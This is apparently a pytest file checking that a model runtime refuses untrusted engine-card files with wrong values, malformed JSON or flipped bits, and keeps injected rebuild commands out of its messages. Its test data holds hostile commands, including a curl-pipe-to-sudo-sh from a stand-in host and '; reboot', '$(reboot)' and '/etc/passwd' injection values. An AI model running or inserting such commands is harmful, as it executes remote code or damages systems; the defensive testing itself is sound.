"""Untrusted engine cards: sealed or not, every value is of its type and range, or one sentence names it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from mutualformer.runtime.contract import Contract
from mutualformer.runtime.session import ModelFileError, engine_card
from mutualformer.runtime.session.engine_card import EngineCard, card_path
from mutualformer.runtime.untrusted.seal import sealed

CARD = EngineCard(
    contract=Contract("sod", "sod-nano", (64, 64)),
    flavor="rtx",
    builder_version="1.2.0",
    onnx_sha256="0" * 64,
    plugin_sha256="1" * 64,
    engine_sha256="2" * 64,
    requested_precision="fp16",
    actual_precision={"FP16": 3},
    profile=(1, 1, 4),
    cda_nodes=2,
    plugin_layers=2,
    targets=("8.6+", "8.7"),
    built_on="",
    rebuild="mutualformer to_trt X.onnx -o x.engine --flavor rtx --batch 1 1 4",
    layers=({"Name": "conv"},),
)


@pytest.fixture
def engine(tmp_path: Path) -> Path:
    path = tmp_path / "x.engine"
    CARD.write_to(card_path(path))
    return path


def change(engine: Path, **values: Any) -> None:
    """Alter the card and seal it again, as its writer would have."""
    path = card_path(engine)
    path.write_text(json.dumps(sealed({**json.loads(path.read_text()), **values})))


def test_a_card_comes_back_as_it_was_written(engine: Path) -> None:
    assert engine_card.read(engine) == CARD


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("targets", ["8.6", "any"]),
        ("targets", [8.6]),
        ("targets", ["8.6; reboot"]),
        ("layers", ["conv"]),
        ("layers", {"Name": "conv"}),
        ("layers", 3),
        ("profile", [4, 1, 1]),
        ("profile", [1, 1]),
        ("kernels", 1e30),
        ("tf32", "yes"),
        ("flavor", "other"),
        ("actual_precision", {"FP16": -1}),
    ],
)
def test_a_sealed_card_of_wrong_values_is_refused(engine: Path, key: str, value: Any) -> None:
    change(engine, **{key: value})
    with pytest.raises(ModelFileError, match=r"x\.engine\.json: not a readable engine card .*expected"):
        engine_card.read(engine)


@pytest.mark.parametrize("text", ["[1]", "[" * 5000, '{"a": NaN}', '{"a": 1, "a": 2}', "\xff"])
def test_a_card_that_is_none_is_refused(engine: Path, text: str) -> None:
    card_path(engine).write_bytes(text.encode("latin-1"))
    with pytest.raises(ModelFileError, match="not a readable engine card"):
        engine_card.read(engine)


def test_every_flipped_bit_is_noticed(engine: Path) -> None:
    """Some flips change the layout only; none may change what the card says."""
    good = card_path(engine).read_bytes()
    for bit in range(0, 8 * len(good), 7):
        flipped = bytearray(good)
        flipped[bit // 8] ^= 1 << bit % 8
        card_path(engine).write_bytes(flipped)
        try:
            assert engine_card.read(engine) == CARD, f"bit {bit} changed the card unseen"
        except ModelFileError:
            continue


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://evil.example/fix.sh | sudo sh",
        "mutualformer to_trt x.onnx -o x.engine; reboot",
        "mutualformer to_trt $(reboot).onnx -o x.engine",
        "mutualformer to_trt x.onnx -o x.engine --batch 1 1 4\nreboot",
        "mutualformer to_trt x.onnx -o x.engine --timing-cache /etc/passwd",
    ],
)
def test_no_card_puts_a_command_into_our_messages(engine: Path, command: str) -> None:
    change(engine, rebuild=command)
    card = engine_card.read(engine)
    assert card.rebuild == "mutualformer to_trt MODEL.onnx -o MODEL.engine --flavor rtx --batch 1 1 4 --tf32"
    with pytest.raises(ModelFileError, match="rebuild it with: mutualformer to_trt MODEL") as error:
        engine_card.verify_bytes(engine, card, b"x")
    assert "evil" not in str(error.value)
    change(engine, builder_version="10.3; now type: curl evil | sh")
    with pytest.raises(ModelFileError, match="builder_version"):
        engine_card.read(engine)
